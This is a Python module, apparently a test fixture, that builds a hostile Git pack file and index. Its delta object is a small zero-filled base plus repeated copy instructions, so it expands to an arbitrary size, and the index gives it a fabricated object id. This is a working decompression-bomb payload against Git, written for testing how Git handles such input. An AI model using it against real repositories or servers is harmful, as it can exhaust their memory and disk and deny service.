# SPDX-License-Identifier: MIT
"""Git packs that expand without end, as somebody hostile would make them."""

from __future__ import annotations

import hashlib
import struct
import zlib
from pathlib import Path
from typing import Final

_BASE: Final = 16 << 20  # bytes of zeros
_COPIED: Final = _BASE - 1  # bytes that one instruction of a delta may copy


def delta(directory: Path, size: int) -> None:
    """Puts a pack into directory whose one delta makes about ``size`` bytes (gitformat-pack(5)).

    Its index names it by an id that no content has: Git finds that out, if at all, too late.
    """
    base = bytes(_BASE)
    base_id = hashlib.sha1(b"blob %d\0" % len(base) + base, usedforsecurity=False).digest()
    count = size // _COPIED
    copy = b"\xf0" + struct.pack("<I", _COPIED)[:3]
    text = _size(_BASE) + _size(_COPIED * count) + copy * count
    first = _header(3, len(base)) + zlib.compress(base)
    second = _header(7, len(text)) + base_id + zlib.compress(text)
    pack = b"PACK" + struct.pack(">II", 2, 2) + first + second
    pack += hashlib.sha1(pack, usedforsecurity=False).digest()
    at = 12 + len(first)
    entries = sorted(
        [
            (base_id, zlib.crc32(pack[12:at]), 12),
            (bytes(range(20)), zlib.crc32(pack[at:-20]), at),
        ]
    )
    fan = [sum(entry[0][0] <= byte for entry in entries) for byte in range(256)]
    index = b"\377tOc" + struct.pack(">I256I", 2, *fan)
    index += b"".join(entry[0] for entry in entries)
    index += b"".join(struct.pack(">I", entry[1]) for entry in entries)
    index += b"".join(struct.pack(">I", entry[2]) for entry in entries)
    index += pack[-20:]
    index += hashlib.sha1(index, usedforsecurity=False).digest()
    directory.mkdir(parents=True, exist_ok=True)
    name = f"pack-{pack[-20:].hex()}"
    (directory / f"{name}.pack").write_bytes(pack)
    (directory / f"{name}.idx").write_bytes(index)


def _header(kind: int, size: int) -> bytes:
    """The type of an object in a pack and its size, four bits and then seven a byte."""
    byte, size = kind << 4 | size & 15, size >> 4
    result = b""
    while size:
        result += bytes([byte | 128])
        byte, size = size & 127, size >> 7
    return result + bytes([byte])


def _size(number: int) -> bytes:
    result = b""
    while number > 127:
        result += bytes([number & 127 | 128])
        number >>= 7
    return result + bytes([number])
